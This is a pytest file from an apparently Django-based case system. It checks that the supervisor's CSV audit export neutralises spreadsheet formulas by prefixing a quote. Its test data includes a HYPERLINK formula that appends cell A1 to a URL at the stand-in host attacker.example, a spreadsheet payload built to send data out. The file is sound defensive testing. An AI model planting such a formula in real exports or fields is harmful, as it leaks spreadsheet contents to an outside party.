"""CSV exports neutralise spreadsheet formulas: a clerk's reveal purpose that starts with
= + - @, a tab or a carriage return reaches the supervisor's CSV with a leading ' (OWASP)."""

import csv
import io

import pytest
from rest_framework.test import APIClient

from accounts.models import User
from core.spreadsheet import safe_cell
from tests.factories import ApplicationFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"Click for details")'


def test_formula_in_a_reveal_purpose_is_inert_in_the_supervisors_export(demo, client):
    application = ApplicationFactory(routed=True)
    case = application.cases.get(step="tax")
    clerk = APIClient()
    clerk.force_authenticate(User.objects.get(email="clerk.tax@demo.gov"))
    response = clerk.post(
        f"/api/v1/cases/{case.reference}/reveal/",
        {"fields": ["applicant.national_id"], "purpose": FORMULA},
        format="json",
    )
    assert response.status_code == 200, response.content

    client.force_login(User.objects.get(email="supervisor@demo.gov"))
    response = client.get("/audit/export.csv?action=pii.reveal")
    content = b"".join(response.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(content)))
    assert [r["purpose"] for r in rows] == ["'" + FORMULA]
    for row in rows:  # no cell of the export starts a formula
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1+A1", "@SUM(A1)", "\tx", "\rx"])
def test_every_formula_start_is_neutralised(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Matching the tax record", "", "a=b", 42, -3, None, 1.5])
def test_other_values_are_unchanged(value):
    assert safe_cell(value) == value
